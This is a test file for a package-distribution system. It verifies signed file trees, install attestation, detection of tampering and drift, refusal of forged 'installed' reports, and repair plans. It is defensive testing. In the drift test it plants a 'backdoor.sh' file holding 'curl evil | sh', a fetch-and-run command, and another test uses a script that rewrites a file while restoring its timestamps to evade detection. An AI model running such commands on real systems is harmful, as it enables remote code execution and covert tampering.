// Proven convergence (DESIGN §17): packages carry a signed tree of their files; an endpoint attests
// what is on its disk after an install, and `installed` stands only with the signed tree attested,
// at the relay and at the master, whatever the report says.
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Client } from '../src/protocol/client.ts';
import { type Network, runFanout, startNetwork, waitFor, writePackage } from './helpers.ts';

let net: Network;
const RELAY = 'relay-c';

async function push(dir: string) {
  const b = await runFanout(['package', 'build', dir, '-o', `${dir}.tgz`]);
  expect(b.code, b.stderr).toBe(0);
  const p = await runFanout(['package', 'push', `${dir}.tgz`, '--json'], { env: net.env });
  expect(p.code, p.stderr).toBe(0);
  return JSON.parse(p.stdout) as { name: string; version: string; digest: string; tree: string };
}

const job = async (pkg: string, targets: string[], params = {}) =>
  (await net.admin.post<{ jobId: string }>('api/v1/jobs', { packages: [pkg], targets, params })).jobId;
const ticketState = async (id: string) =>
  (await net.admin.get<any[]>('api/v1/tickets')).find((t) => t.id === id)?.state;
const view = (jobId: string) => net.admin.get(`api/v1/jobs/${jobId}`);
const target = async (jobId: string, deviceId: string) =>
  (await view(jobId)).targets.find((t: any) => t.deviceId === deviceId);

/** A client speaking as a device, with its own token: what a hostile endpoint or relay could send. */
const as = (baseUrl: string, deviceId: string) => new Client({ baseUrl, token: net.tokens[deviceId] });

beforeAll(async () => {
  net = await startNetwork({ name: 'converge', relays: [RELAY], agentsPerRelay: 3, startAgents: false });
  await net.startAgent(`${RELAY}-pos-1`, RELAY);
  // pos-2 re-verifies every 2 s (the periodic check); pos-1 only when asked.
  await net.startAgent(`${RELAY}-pos-2`, RELAY, {}, ['--verify-every', '2s']);
  // pos-3 has no agent: the tests speak for it.
});
afterAll(async () => {
  await net?.stopAll();
});

describe('signed trees and attestation', () => {
  it('records each file of a package in a signed tree, and an install attests it', async () => {
    mkdirSync(join(net.dir, 'pkgs', 'till', 'bin'), { recursive: true });
    const dir = writePackage(
      join(net.dir, 'pkgs', 'till'),
      'till',
      '1.0.0',
      { 'till.txt': 'till 1\n', 'bin/run.sh': '#!/bin/sh\necho run\n' },
      // Files an install script writes beside the signed ones are its own, not tampering.
      '#!/bin/sh\necho "$FANOUT_JOB" > installed-by-script.txt\n',
    );
    chmodSync(join(dir, 'bin', 'run.sh'), 0o750);
    const pkg = await push(dir);
    expect(pkg.tree).toMatch(/^[0-9a-f]{64}$/);
    const listed = await net.admin.get<any[]>('api/v1/packages');
    const row = listed.find((p) => p.name === 'till');
    expect(row.files.map((f: any) => `${f.mode.toString(8)} ${f.path}`)).toEqual([
      '750 bin/run.sh',
      '644 fanout.json',
      '644 install.sh',
      '644 till.txt',
    ]);
    const id = await job('till@1.0.0', [`${RELAY}-pos-1`, `${RELAY}-pos-2`]);
    await waitFor('the till job complete', async () => (await view(id)).state === 'complete', 30_000);
    for (const t of (await view(id)).targets) expect(t.attestation).toEqual({ 'till@1.0.0': pkg.tree });
    // The signed modes are what is on disk (extraction does not apply the agent's umask).
    const root = net.agents[`${RELAY}-pos-1`].root;
    expect(statSync(join(root, 'till', '1.0.0', 'bin', 'run.sh')).mode & 0o777).toBe(0o750);
  });

  /** Installs NAME@1.0.0 (NAME.txt and `script`) on pos-1; its target's failure type and error. */
  async function failureOf(name: string, script: string) {
    const dir = writePackage(join(net.dir, 'pkgs', name), name, '1.0.0', { [`${name}.txt`]: `${name} 1\n` }, script);
    await push(dir);
    const id = await job(`${name}@1.0.0`, [`${RELAY}-pos-1`]);
    const t = await waitFor('the target failed', async () => {
      const x = await target(id, `${RELAY}-pos-1`);
      return x.state === 'failed' && x;
    });
    return [t.failureType, t.error];
  }

  it('an install script that changes a signed file fails the target as TAMPERED, naming the file', async () => {
    expect(await failureOf('menu', '#!/bin/sh\necho "patched" >> menu.txt\n')).toEqual([
      'TAMPERED',
      expect.stringMatching(/menu@1\.0\.0: changed menu\.txt/),
    ]);
  });

  it('a script that rewrites a signed file in place, its size and times put back, still fails as TAMPERED', async () => {
    // Same size, same inode, modification time restored: only the change time tells, and it does.
    const script =
      "#!/bin/sh\ntouch -r board.txt .ref && printf 'board 9\\n' > .new && cat .new > board.txt && touch -r .ref board.txt && rm -f .ref .new\n";
    expect(await failureOf('board', script)).toEqual([
      'TAMPERED',
      expect.stringMatching(/board@1\.0\.0: changed board\.txt/),
    ]);
  });

  it('a report of installed without the signed tree is refused at the relay and at the master', async () => {
    const dir = writePackage(join(net.dir, 'pkgs', 'scale'), 'scale', '1.0.0', { 'scale.txt': 'scale 1\n' });
    const pkg = await push(dir);
    const pos3 = `${RELAY}-pos-3`;
    const jobId = await job('scale@1.0.0', [pos3], { maxAttempts: 1 });
    // A failed distribution with a ticket for this job: what a repair would resolve.
    await net.admin.post('api/v1/alerts', [
      { deviceId: RELAY, jobId, relayId: RELAY, failureType: 'DISK_FULL', message: 'no space left on device' },
    ]);
    const ticket = await waitFor('the ticket', async () =>
      (await net.admin.get<any[]>('api/v1/tickets')).find((t) => t.jobs?.includes?.(jobId) || t.deviceId === RELAY),
    );
    // A hostile endpoint says "installed" with the wrong tree: the relay records TAMPERED.
    const relayUrl = net.relays[RELAY].url;
    const endpoint = as(relayUrl, pos3);
    const { commandId } = await waitFor('the command at the relay', async () => {
      const a = await endpoint.get<any>('agent/v1/assignments?wait=0');
      return (a.assignments ?? a).find?.((x: any) => x.jobId === jobId);
    });
    await endpoint.post('agent/v1/reports', {
      jobId,
      commandId,
      state: 'installed',
      trees: { 'scale@1.0.0': '0'.repeat(64) },
    });
    const t = await waitFor('TAMPERED at the master', async () => {
      const x = await target(jobId, pos3);
      return x.failureType === 'TAMPERED' && x;
    });
    expect(t.error).toMatch(/scale@1\.0\.0 0{64}/);
    // A hostile relay says "installed" to the master: the master checks the trees itself.
    const relay = as(net.master.url, RELAY);
    await relay.post('api/v1/relay/reports', {
      targets: [{ jobId, deviceId: pos3, state: 'installed', trees: { 'scale@1.0.0': 'f'.repeat(64) } }],
    });
    const after = await target(jobId, pos3);
    expect([after.state, after.failureType]).toEqual(['failed', 'TAMPERED']);
    expect(await ticketState(ticket.id)).not.toBe('resolved');
    // With the signed tree attested, the job completes and the ticket resolves.
    await relay.post('api/v1/relay/reports', {
      targets: [{ jobId, deviceId: pos3, state: 'installed', trees: { 'scale@1.0.0': pkg.tree } }],
    });
    expect((await target(jobId, pos3)).state).toBe('installed');
    await waitFor('the ticket resolved', async () => (await ticketState(ticket.id)) === 'resolved', 10_000);
  });

  it('a file edited in an install root is drift: found when asked and periodically, ticketed, repaired by a plan', async () => {
    const pkg = await push(writePackage(join(net.dir, 'pkgs', 'prices'), 'prices', '1.0.0', { 'prices.csv': 'a,1\n' }));
    const [p1, p2] = [`${RELAY}-pos-1`, `${RELAY}-pos-2`];
    const jobId = await job('prices@1.0.0', [p1, p2]);
    await waitFor('the prices job complete', async () => (await view(jobId)).state === 'complete');
    const edited = join(net.agents[p1].root, 'prices', '1.0.0', 'prices.csv');
    writeFileSync(edited, 'a,0\n'); // a technician's edit on the till

    // Asked: `fanout device verify` names the file; exit status 1.
    const r = await runFanout(['device', 'verify', p1, '--json'], { env: net.env });
    expect(r.code, r.stderr).toBe(1);
    const found = JSON.parse(r.stdout).devices.find((d: any) => d.package === 'prices');
    expect(found).toMatchObject({ id: p1, version: '1.0.0', state: 'drift' });
    expect(found.detail).toMatch(/changed prices\.csv/);
    const human = await runFanout(['device', 'verify', p1], { env: net.env });
    expect(human.stdout).toMatch(/prices\s+1\.0\.0\s+drift/);
    // A DRIFT alert through the alert center, a ticket, and the target no longer installed.
    const tickets = () => net.admin.get<any[]>('api/v1/tickets');
    const t1 = await waitFor('a DRIFT ticket for pos-1', async () =>
      (await tickets()).find((t) => t.deviceId === p1 && t.failureType === 'DRIFT'),
    );
    expect(await target(jobId, p1)).toMatchObject({ state: 'failed', failureType: 'DRIFT' });
    const fleet = async () => {
      const f = await runFanout(['fleet', '--search', RELAY, '--json'], { env: net.env });
      expect(f.code, f.stderr).toBe(0);
      const out = JSON.parse(f.stdout);
      return (id: string) => out.devices.find((d: any) => d.id === id);
    };
    const before = (await fleet())(p1);
    expect(before.health, JSON.stringify(before)).toBe('attention');
    expect(before.packages.find((p: any) => p.name === 'prices')).toMatchObject({ version: '1.0.0', state: 'drift' });

    // Periodic: a file appears beside pos-2's signed ones; its own check finds it, nobody asks.
    writeFileSync(join(net.agents[p2].root, 'prices', '1.0.0', 'backdoor.sh'), 'curl evil | sh\n');
    const t2 = await waitFor(
      'a DRIFT ticket for pos-2',
      async () => (await tickets()).find((t) => t.deviceId === p2 && t.failureType === 'DRIFT'),
      20_000,
    );
    const drifted = await target(jobId, p2);
    expect(drifted.error).toMatch(/extra backdoor\.sh/);

    // A plan from the relay's job log reinstalls both from the depot; approved, the signed tree is back.
    const { plans } = await net.admin.post<{ plans: any[] }>(`api/v1/relays/${RELAY}/plans`, { jobId });
    expect([...plans[0].distributionList].sort()).toEqual([p1, p2]);
    expect(plans[0].bytesInDepot).toBe(plans[0].packages[0].size); // nothing fetched from the master again
    await net.admin.post(`api/v1/plans/${plans[0].planId}/approve`, { by: 'test' });
    await waitFor('the job complete again', async () => (await view(jobId)).state === 'complete', 30_000);
    for (const t of (await view(jobId)).targets) expect(t.attestation).toEqual({ 'prices@1.0.0': pkg.tree });
    expect(readFileSync(edited, 'utf8')).toBe('a,1\n');
    expect(existsSync(join(net.agents[p2].root, 'prices', '1.0.0', 'backdoor.sh'))).toBe(false);
    await waitFor('both tickets resolved', async () => {
      const all = await tickets();
      return [t1.id, t2.id].every((id) => all.find((t) => t.id === id)?.state === 'resolved');
    });
    const again = await runFanout(['device', 'verify', p1, p2, '--json'], { env: net.env });
    expect(again.code, again.stdout).toBe(0);
    const repaired = await fleet();
    for (const id of [p1, p2]) {
      expect(repaired(id).packages.find((p: any) => p.name === 'prices').state).toBe('attested');
      expect(repaired(id).lastSeen).not.toBeNull();
    }
  });

  it('keeps the last two versions of a package and removes older ones, never the current', async () => {
    const p1 = `${RELAY}-pos-1`;
    for (const v of ['1.0.0', '2.0.0', '3.0.0']) {
      await push(writePackage(join(net.dir, 'pkgs', `rot-${v}`), 'rot', v, { 'v.txt': `${v}\n` }));
      const id = await job(`rot@${v}`, [p1]);
      await waitFor(`rot ${v} installed`, async () => (await view(id)).state === 'complete');
    }
    const dir = join(net.agents[p1].root, 'rot');
    expect(
      readdirSync(dir)
        .filter((f) => /^\d/.test(f))
        .sort(),
    ).toEqual(['2.0.0', '3.0.0']);
    expect(readFileSync(join(dir, 'current', 'v.txt'), 'utf8')).toBe('3.0.0\n');
  });
});
